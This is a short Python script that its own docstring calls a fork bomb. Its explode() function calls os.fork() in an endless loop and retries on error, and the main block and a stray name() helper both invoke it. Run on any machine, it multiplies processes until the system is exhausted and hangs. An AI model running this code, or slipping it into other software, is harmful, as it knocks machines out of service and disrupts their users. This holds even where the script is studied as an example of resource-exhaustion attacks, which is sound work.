"""The fork bomb: every process makes more of itself, and none gives up."""

import os


def explode():
    """Fork for ever."""
    while True:
        try:
            os.fork()
        except OSError:
            continue


def name(number):
    """Explode."""
    explode()


if __name__ == "__main__":
    explode()
